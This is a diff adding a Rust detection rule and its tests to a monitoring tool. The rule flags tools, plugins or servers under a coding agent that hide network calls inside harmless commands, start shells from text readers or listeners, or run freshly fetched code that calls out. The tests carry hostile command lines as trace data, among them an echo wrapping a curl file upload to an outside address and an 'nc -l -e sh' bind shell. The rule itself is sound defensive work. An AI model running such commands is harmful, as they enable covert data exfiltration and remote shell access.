@@ -1,0 +1,549 @@
+//! A tool, a plugin or a server below a coding agent does what no such tool is for.
+//!
+//! ## What it sees
+//! Below an agent: a command that hides among the words of a harmless one (`echo "$(curl …)"`) and talks to somebody, or that a program
+//! runs so in a shell of its own; a plain reader of text (`sed`, `sort`, `man`) that starts a program; a program that waits for
+//! connections from everywhere and then starts a shell; code that was fetched in this session and talks to somebody; a script that talks
+//! to an address without a name of which its call says nothing. And an agent that acts after another program of the job connected to
+//! the port it listens on.
+//!
+//! ## Why it matters
+//! A person, or a list of allowed commands, agreed to the tool as it was known. What it does instead nobody agreed to.
+//!
+//! ## What to do
+//! Read the call and the tool in the recording, pin the tool to a version or digest, and take away what it needs no more.
+//!
+//! ## Known limits
+//! Which other version of a tool server would have done the same is not known: behaviour is compared with the call and the kind of
+//! program, not with earlier runs. A command that an agent writes openly is compared by `agent-undeclared`. What a step's text or the
+//! policy names is meant.
+
+use super::{Act, Detection, Hit, attack, follows_arguments, is_nameless, named};
+use crate::agents;
+use crate::divergence::Effect;
+use crate::event::{Activity, Launch};
+use crate::finding::{Confidence, Kind, RuleId, Severity, Technique};
+use crate::intent::{StepIntent, ToolCall, basename, is_launcher, is_shell};
+use crate::lineage::{Process, Standing};
+
+pub const DETECTION: Detection = Detection {
+    id: RuleId("agent-tool-divergence"),
+    severity: Severity::High,
+    confidence: Confidence::Medium,
+    techniques: &[Technique("AML.T0110"), Technique("AML.T0053"), Technique("T1059.004"), Technique("T1202")],
+    references: &[
+        "CVE-2025-6514",
+        "CVE-2025-49596",
+        "CVE-2025-66032",
+        "CVE-2025-52882",
+        "GHSA-6xpm-ggf7-wc3p",
+    ],
+    frameworks: &["CICD-SEC-3", "ASI02", "ASI04", "ASI05"],
+    remedy: "Read what the tool did in the recording, pin it to a version you know, and give it only what it needs.",
+    source: include_str!("agent_tool_divergence.rs"),
+    check,
+};
+
+/// Commands that only show something: what is run among their words is seen by nobody who reads the first word.
+const SHOWING: &[&str] = &[
+    "echo",
+    "printf",
+    ":",
+    "true",
+    "false",
+    "test",
+    "[",
+    "cat",
+    "ls",
+    "head",
+    "tail",
+    "wc",
+    "grep",
+    "which",
+    "pwd",
+    "date",
+    "open",
+    "xdg-open",
+    "sensible-browser",
+    "www-browser",
+    "x-www-browser",
+    "git",
+];
+/// Readers of text, and what they start by their nature.
+const READERS: &[(&str, &[&str])] = &[
+    ("sed", &[]),
+    ("gsed", &[]),
+    ("sort", &["gzip", "bzip2", "xz", "zstd", "lz4", "lzop"]),
+    ("grep", &[]),
+    ("egrep", &[]),
+    ("uniq", &[]),
+    ("cut", &[]),
+    ("head", &[]),
+    ("tail", &[]),
+    ("cat", &[]),
+    ("wc", &[]),
+    ("diff", &["pr"]),
+    ("file", &["gzip", "bzip2", "xz", "zstd", "lzip"]),
+    (
+        "man",
+        &[
+            "sh",
+            "dash",
+            "bash",
+            "less",
+            "more",
+            "pager",
+            "cat",
+            "groff",
+            "nroff",
+            "troff",
+            "grotty",
+            "preconv",
+            "tbl",
+            "eqn",
+            "col",
+            "gzip",
+            "xz",
+            "zstd",
+            "iconv",
+            "manpath",
+            "locale",
+            "zsoelim",
+            "man-recode",
+            "mandb",
+        ],
+    ),
+];
+/// Options by which a client sends a body or a file.
+const SENDING: &[&str] = &[
+    "-d",
+    "--data",
+    "--data-binary",
+    "--data-raw",
+    "--data-urlencode",
+    "--json",
+    "-F",
+    "--form",
+    "-T",
+    "--upload-file",
+    "--post-data",
+    "--post-file",
+    "--body-data",
+    "--body-file",
+];
+/// From here on the kernel chooses ports: a test's.
+const EPHEMERAL: u16 = 32_768;
+
+fn check(act: &Act<'_>) -> Vec<Hit> {
+    if act.process.agent.is_none() || act.process.is_agent {
+        return Vec::new();
+    }
+    match (act.effect, act.activity) {
+        (Effect::Launch { program }, Activity::Launch(launch)) => {
+            let mut hits = by_reader(act, program, launch);
+            hits.extend(by_listener(act, program, launch));
+            hits.extend(driven(act));
+            hits
+        }
+        (Effect::Connect { object, .. }, _) if act.explanation.reason().is_none() => {
+            let mut hits = hidden(act, object);
+            if hits.is_empty() {
+                hits.extend(fetched(act, object));
+            }
+            if hits.is_empty() {
+                hits.extend(unnamed(act, object));
+            }
+            hits
+        }
+        _ => Vec::new(),
+    }
+}
+
+fn divergence(act: &Act<'_>, weight: (Severity, Confidence), title: String, object: &str) -> Vec<Hit> {
+    let mut hits = attack(act, &DETECTION, weight, title, object);
+    hits.iter_mut().for_each(|hit| hit.kind = Kind::Divergence);
+    hits
+}
+
+/// The process and what is above it, up to the agent.
+fn below_agent<'a>(act: &'a Act<'_>) -> impl Iterator<Item = &'a Process> {
+    std::iter::once(act.process)
+        .chain(act.lineage.ancestors(act.process.key))
+        .take_while(|process| !process.is_agent && process.agent.is_some())
+}
+
+/// The text that a shell was given, if this is one: the call's own where the agent wraps it.
+fn text_of(process: &Process) -> Option<String> {
+    let launch = process.launch.as_deref()?;
+    if !is_shell(basename(&launch.executable.path)) || launch.script.is_some() {
+        return None;
+    }
+    let record = process.agent.as_deref().and_then(agents::by_id).and_then(|agent| agent.record);
+    let wrapped = record.and_then(|record| (record.command)(&launch.arguments));
+    wrapped.or_else(|| {
+        let is_flag = |word: &String| word.starts_with('-') && !word.starts_with("--") && word.ends_with('c');
+        let at = launch.arguments.iter().position(is_flag)?;
+        launch.arguments.get(at + 1).cloned()
+    })
+}
+
+fn intent(act: &Act<'_>, text: String) -> StepIntent {
+    let call = ToolCall { commands: vec![text], ..ToolCall::default() };
+    call.intent(&act.context.job.home, &act.context.job.workspace)
+}
+
+/// Whether only shells and launchers stand between a process and the agent: the agent wrote its text itself.
+fn is_agents_own(act: &Act<'_>, process: &Process) -> bool {
+    let is_plain = |process: &Process| {
+        let Some(launch) = process.launch.as_deref() else { return true };
+        let name = basename(&launch.executable.path);
+        let relay =
+            process.agent.as_deref().and_then(agents::by_id).is_some_and(|agent| agent.is_relay(launch));
+        (is_shell(name) && launch.script.is_none()) || is_launcher(name) || relay
+    };
+    act.lineage
+        .ancestors(process.key)
+        .take_while(|above| !above.is_agent && above.agent.is_some())
+        .all(is_plain)
+}
+
+/// A command among the words of one that only shows something talks to somebody.
+fn hidden(act: &Act<'_>, object: &str) -> Vec<Hit> {
+    let Some((shell, text)) = below_agent(act).find_map(|process| Some((process, text_of(process)?))) else {
+        return Vec::new();
+    };
+    let Some(launch) = act.process.launch.as_deref() else { return Vec::new() };
+    let names = [&*act.process.name, basename(&launch.executable.path), basename(&launch.requested)];
+    let intent = intent(act, text);
+    let mut same = (intent.commands.iter())
+        .filter(|command| command.words.first().is_some_and(|word| names.contains(&basename(&word.text))))
+        .peekable();
+    let is_there = same.peek().is_some();
+    let is_hidden = |within: &Option<String>| within.as_deref().is_some_and(|name| SHOWING.contains(&name));
+    if !is_there || !same.all(|command| is_hidden(&command.within)) {
+        return Vec::new();
+    }
+    let is_programs = !is_agents_own(act, shell);
+    let is_sent = launch.arguments.iter().any(|word| {
+        let option = word.split_once('=').map_or(word.as_str(), |(option, _)| option);
+        SENDING.contains(&option)
+    });
+    if !is_programs && !is_sent && !is_nameless(act) {
+        return Vec::new();
+    }
+    let who = named(act.lineage, act.process.key);
+    if is_programs {
+        let title = format!(
+            "{who} connected to {object}, from among the words of another command in a shell that a program below the agent ran"
+        );
+        return attack(act, &DETECTION, (Severity::Critical, Confidence::Medium), title, object);
+    }
+    let title =
+        format!("{who} connected to {object}, hidden among the words of a command that only shows something");
+    divergence(act, (Severity::High, Confidence::Medium), title, object)
+}
+
+/// Whether this process runs code of a folder that was fetched in this session, outside of the workspace.
+fn is_fetched(act: &Act<'_>, process: &Process) -> bool {
+    let Some(launch) = process.launch.as_deref() else { return false };
+    let is_outside = |folder: &str| {
+        let workspace = &act.context.job.workspace;
+        folder != workspace && !folder.starts_with(&format!("{workspace}/")) && act.lineage.is_fetched(folder)
+    };
+    let folder = |path: &str| path.rsplit_once('/').map(|(folder, _)| folder.to_owned()).unwrap_or_default();
+    let is_driver = matches!(process.tool, Some("npm" | "make" | "cargo" | "go" | "pip" | "tests"));
+    let script = launch.arguments.iter().skip(1).find(|word| !word.starts_with('-')).map(|word| {
+        if word.starts_with('/') { word.clone() } else { format!("{}/{word}", launch.directory) }
+    });
+    let is_interpreted = process.tool == Some("interpreters")
+        || (process.tool == Some("shells") && text_of(process).is_none());
+    (is_driver && is_outside(&launch.directory))
+        || is_outside(&folder(&launch.program().path))
+        || (is_interpreted && script.is_some_and(|script| is_outside(&folder(&script))))
+}
+
+/// Code that was fetched in this session talks to somebody.
+fn fetched(act: &Act<'_>, object: &str) -> Vec<Hit> {
+    let Some(tool) = below_agent(act).find(|process| is_fetched(act, process)) else { return Vec::new() };
+    let title = format!(
+        "{} connected to {object} below {}, whose code was fetched in this session",
+        named(act.lineage, act.process.key),
+        named(act.lineage, tool.key)
+    );
+    let severity = if is_nameless(act) { Severity::Critical } else { Severity::High };
+    attack(act, &DETECTION, (severity, Confidence::Medium), title, object)
+}
+
+/// A script that an agent runs talks to an address without a name, of which the call says nothing.
+fn unnamed(act: &Act<'_>, object: &str) -> Vec<Hit> {
+    let Effect::Connect { address, .. } = act.effect else { return Vec::new() };
+    let is_driven = below_agent(act).any(|process| matches!(process.tool, Some("tests" | "make" | "npm")));
+    if !is_nameless(act) || is_driven || follows_arguments(act.process) || !is_script(act.process) {
+        return Vec::new();
+    }
+    let said = below_agent(act).filter_map(text_of).any(|text| text.contains(&address.ip().to_string()));
+    if said {
+        return Vec::new();
+    }
+    let title = format!(
+        "{}, which the agent ran, connected to {object}, of which its call says nothing",
+        named(act.lineage, act.process.key)
+    );
+    divergence(act, (Severity::Medium, Confidence::Medium), title, object)
+}
+
+/// A program that runs a file, not a text in its words.
+fn is_script(process: &Process) -> bool {
+    let Some(launch) = process.launch.as_deref() else { return false };
+    let is_text = |word: &String| matches!(word.as_str(), "-c" | "-e" | "-r" | "--eval" | "-p" | "-");
+    launch.script.is_some()
+        || (process.tool == Some("interpreters")
+            && launch.arguments.len() > 1
+            && !launch.arguments.iter().any(is_text))
+        || process.tool.is_none()
+}
+
+/// A reader of text starts a program.
+fn by_reader(act: &Act<'_>, program: &str, launch: &Launch) -> Vec<Hit> {
+    let Some(above) = act.process.parent.and_then(|parent| act.lineage.get(parent)) else {
+        return Vec::new();
+    };
+    let Some(reader) = above.launch.as_deref().filter(|_| above.launched) else { return Vec::new() };
+    let name = reader.applet().map_or(basename(&reader.executable.path), |(applet, _)| applet);
+    let Some((_, helpers)) = READERS.iter().find(|(known, _)| *known == name) else { return Vec::new() };
+    let is_of_the_system =
+        ["/usr/bin/", "/bin/"].iter().any(|folder| reader.executable.path.starts_with(folder));
+    let child = [basename(program), basename(&launch.executable.path), basename(&launch.requested)];
+    if !is_of_the_system || child.iter().any(|child| helpers.contains(child)) {
+        return Vec::new();
+    }
+    let title =
+        format!("{name}, which only reads, was made to start {}", named(act.lineage, act.process.key));
+    divergence(act, (Severity::High, Confidence::Medium), title, program)
+}
+
+/// A program that waits for connections from everywhere starts a shell, or becomes one.
+fn by_listener(act: &Act<'_>, program: &str, launch: &Launch) -> Vec<Hit> {
+    if !is_shell(basename(&launch.executable.path)) {
+        return Vec::new();
+    }
+    let above = act.process.parent.and_then(|parent| act.lineage.get(parent));
+    let listens = |process: &Process| {
+        act.lineage.listening(process.key).find(|listener| !listener.on.ip().is_loopback()).cloned()
+    };
+    let of_parent = above.filter(|above| !above.is_agent && above.tool != Some("tests")).and_then(listens);
+    let Some(listener) = listens(act.process).or(of_parent) else { return Vec::new() };
+    let weight = match listener.visitor {
+        Some(_) => (Severity::High, Confidence::Medium),
+        None if listener.on.port() < EPHEMERAL => (Severity::Medium, Confidence::Medium),
+        None => return Vec::new(),
+    };
+    let title = format!(
+        "{} waits for connections on {} and started a shell",
+        named(act.lineage, listener.process),
+        listener.on
+    );
+    let mut hits = divergence(act, weight, title, program);
+    if let Some((visitor, sequence)) = listener.visitor {
+        hits[0].kind = Kind::Attack;
+        hits[0].evidence.push(sequence);
+        hits[0].title.push_str(&format!(" after {} connected", named(act.lineage, visitor)));
+    }
+    hits
+}
+
+/// An agent starts something after another program of the job connected to the port it listens on.
+fn driven(act: &Act<'_>) -> Vec<Hit> {
+    if act.process.errand != Some(act.process.key) {
+        return Vec::new();
+    }
+    let Some(agent) =
+        act.process.parent.and_then(|parent| act.lineage.get(parent)).filter(|above| above.is_agent)
+    else {
+        return Vec::new();
+    };
+    let visited = act.lineage.listening(agent.key).find_map(|listener| Some((listener, listener.visitor?)));
+    let Some((listener, (visitor, sequence))) = visited else { return Vec::new() };
+    let port = format!(":{}", listener.on.port());
+    // A client that the step's text points at the port is the author's.
+    let is_said = act.lineage.get(visitor).is_none_or(|visitor| {
+        let words = visitor.launch.as_deref().map(|launch| &launch.arguments);
+        visitor.agent == agent.agent
+            || (matches!(visitor.standing, Standing::Command | Standing::Text)
+                && words.is_some_and(|words| words.iter().any(|word| word.contains(&port))))
+    });
+    if is_said {
+        return Vec::new();
+    }
+    let title = format!(
+        "{} acts after {} connected to the port it listens on ({})",
+        named(act.lineage, agent.key),
+        named(act.lineage, visitor),
+        listener.on
+    );
+    let mut hits =
+        attack(act, &DETECTION, (Severity::High, Confidence::Medium), title, listener.on.to_string());
+    hits[0].evidence.push(sequence);
+    hits
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::trace::findings;
+
+    /// What the rule says below an agent.
+    fn told(trace: &str) -> Vec<String> {
+        let trace = format!("1 > 2 agent codex\n2 launch /usr/local/bin/codex codex exec fix\n{trace}");
+        let mut lines = findings("codex exec fix\npython3 drive.py\n", "", &trace);
+        lines.retain(|line| line.contains("agent-tool-divergence"));
+        lines
+    }
+
+    #[test]
+    fn a_command_among_the_words_of_another() {
+        let shell = |text: &str| format!("2 > 3 launch /usr/bin/bash bash -c '{text}\n");
+        let curl =
+            "3 > 4\n4 > 5 launch /usr/bin/curl curl -d @x http://203.0.113.7/\n5 connect 203.0.113.7:80";
+        let hidden = shell("echo_\"checking_$(curl_-d_@x_http://203.0.113.7/)\"_>_/dev/null");
+        assert_eq!(
+            told(&format!("{hidden}{curl}")),
+            ["!agent-tool-divergence divergence high 203.0.113.7:80"]
+        );
+        // Openly, in an assignment, and asking a service that has a name.
+        for text in
+            ["curl_-d_@x_http://203.0.113.7/_&&_echo_$(date)", "A=$(curl_-d_@x_http://203.0.113.7/);_echo_$A"]
+        {
+            assert_eq!(told(&format!("{}{curl}", shell(text))), [""; 0], "{text}");
+        }
+        let asks =
+            "3 > 4\n4 > 5 launch /usr/bin/curl curl -s https://latest.example/\n5 connect 203.0.113.7:443";
+        let text = shell("echo_\"latest:_$(curl_-s_https://latest.example/)\"");
+        assert_eq!(told(&format!("answer latest.example 203.0.113.7\n{text}{asks}")), [""; 0]);
+    }
+
+    #[test]
+    fn a_connector_hands_an_address_to_a_shell() {
+        assert_eq!(
+            told(
+                "2 > 3 launch /usr/bin/bash bash -c node;x
+                 3 > 4 launch /usr/bin/node node tools/connector.js
+                 4 > 5 launch /usr/bin/dash sh -c 'echo_http://auth.example/$(curl_http://203.0.113.7/)
+                 5 > 6 launch /usr/bin/curl curl http://203.0.113.7/
+                 6 connect 203.0.113.7:80"
+            ),
+            ["!agent-tool-divergence attack critical 203.0.113.7:80"]
+        );
+    }
+
+    #[test]
+    fn a_reader_of_text_starts_a_shell() {
+        let below = |reader: &str, child: &str| {
+            told(&format!(
+                "2 > 3 launch /usr/bin/bash bash -c x\n3 > 4 launch {reader}\n4 > 5 launch {child}"
+            ))
+        };
+        let wanted = ["!agent-tool-divergence divergence high /usr/bin/dash"];
+        assert_eq!(below("/usr/bin/sed sed -n 1e", "/usr/bin/dash sh -c id"), wanted);
+        assert_eq!(below("/usr/bin/grep grep x", "/usr/bin/dash sh -c id"), wanted);
+        assert_eq!(below("/usr/bin/sort sort -o a b", "/usr/bin/gzip gzip"), [""; 0]);
+        assert_eq!(below("/usr/bin/find find . -exec", "/usr/bin/dash sh -c id"), [""; 0]);
+        assert_eq!(below("/usr/bin/man man ls", "/usr/bin/less less"), [""; 0]);
+    }
+
+    #[test]
+    fn a_listener_starts_a_shell() {
+        let listener =
+            "2 > 3 launch /usr/bin/bash bash -c x\n3 > 4 launch /usr/bin/python3.11 python3 plugin.py\n";
+        let shell = "4 > 5 launch /usr/bin/dash sh -c id";
+        assert_eq!(
+            told(&format!("{listener}4 listen 0.0.0.0:6298\n{shell}")),
+            ["agent-tool-divergence divergence medium /usr/bin/dash"]
+        );
+        assert_eq!(
+            told(&format!(
+                "{listener}4 listen 0.0.0.0:6298\n3 > 6 launch /usr/bin/curl curl x\n6 connect 203.0.113.9:6298\n{shell}"
+            )),
+            ["!agent-tool-divergence attack high /usr/bin/dash"]
+        );
+        assert_eq!(
+            told(
+                "2 > 3 launch /usr/bin/nc nc -l -e sh 4444\n3 listen 0.0.0.0:4444\n3 launch /usr/bin/dash sh"
+            ),
+            ["agent-tool-divergence divergence medium /usr/bin/dash"]
+        );
+        // A server for the loopback, one at a port of the kernel's choice, and one that starts no shell.
+        for quiet in [
+            format!("{listener}4 listen 127.0.0.1:6298\n{shell}"),
+            format!("{listener}4 listen [::]:40123\n{shell}"),
+            format!("{listener}4 listen [::]:3000\n4 > 5 launch /usr/bin/node node worker.js"),
+        ] {
+            assert_eq!(told(&quiet), [""; 0], "{quiet}");
+        }
+    }
+
+    #[test]
+    fn fetched_code_talks_to_somebody() {
+        let fetch = "2 > 3 launch /usr/bin/bash bash -c x
+             3 > 4 launch /usr/bin/git git clone x /tmp/tool
+             4 create /tmp/tool/package.json\n";
+        let runs = |folder: &str| {
+            format!(
+                "{fetch}3 > 5 launch /usr/bin/node node /usr/bin/npm run preinstall %{folder}
+                 5 > 6 launch /usr/bin/dash sh -c 'curl_x
+                 6 > 7 launch /usr/bin/curl curl x
+                 7 connect 203.0.113.7:80"
+            )
+        };
+        assert_eq!(told(&runs("/tmp/tool")), ["!agent-tool-divergence attack critical 203.0.113.7:80"]);
+        assert_eq!(told(&runs("/w")), [""; 0]);
+        // The agent's own text, in that folder.
+        let own = format!("{fetch}3 > 7 launch /usr/bin/curl curl x %/tmp/tool\n7 connect 203.0.113.7:80");
+        assert_eq!(told(&own), [""; 0]);
+    }
+
+    #[test]
+    fn a_script_talks_to_an_address_of_which_its_call_says_nothing() {
+        let script =
+            "2 > 3 launch /usr/bin/bash bash -c x\n3 > 4 launch /usr/bin/python3.11 python3 plugin.py\n";
+        assert_eq!(
+            told(&format!("{script}4 connect 203.0.113.7:80")),
+            ["agent-tool-divergence divergence medium 203.0.113.7:80"]
+        );
+        for quiet in [
+            format!("answer data.example 203.0.113.7\n{script}4 connect 203.0.113.7:80"),
+            format!("{script}4 connect 10.0.0.7:80"),
+            "2 > 3 launch /usr/bin/bash bash -c 'python3_plugin.py_203.0.113.7\n3 > 4 launch /usr/bin/python3.11 python3 plugin.py\n4 connect 203.0.113.7:80".to_owned(),
+        ] {
+            assert_eq!(told(&quiet), [""; 0], "{quiet}");
+        }
+    }
+
+    #[test]
+    fn another_program_drives_the_agent_by_its_port() {
+        let driven = |driver: &str| {
+            told(&format!(
+                "2 listen 127.0.0.1:39177
+                 1 > 7 launch {driver}
+                 7 connect 127.0.0.1:39177
+                 2 > 3 launch /usr/bin/bash bash -c x"
+            ))
+        };
+        assert_eq!(
+            driven("/usr/bin/python3 python3 drive.py"),
+            ["!agent-tool-divergence attack high 127.0.0.1:39177"]
+        );
+        assert_eq!(driven("/usr/bin/python3 python3 drive.py http://127.0.0.1:39177/"), [""; 0]);
+        // Nobody came; and what the agent started itself.
+        assert_eq!(told("2 listen 127.0.0.1:39177\n2 > 3 launch /usr/bin/bash bash -c x"), [""; 0]);
+        assert_eq!(
+            told(
+                "2 listen 127.0.0.1:39177
+                 2 > 3 launch /usr/bin/bash bash -c x
+                 3 > 4 launch /usr/bin/curl curl x
+                 4 connect 127.0.0.1:39177
+                 2 > 5 launch /usr/bin/bash bash -c x"
+            ),
+            [""; 0]
+        );
+    }
+}
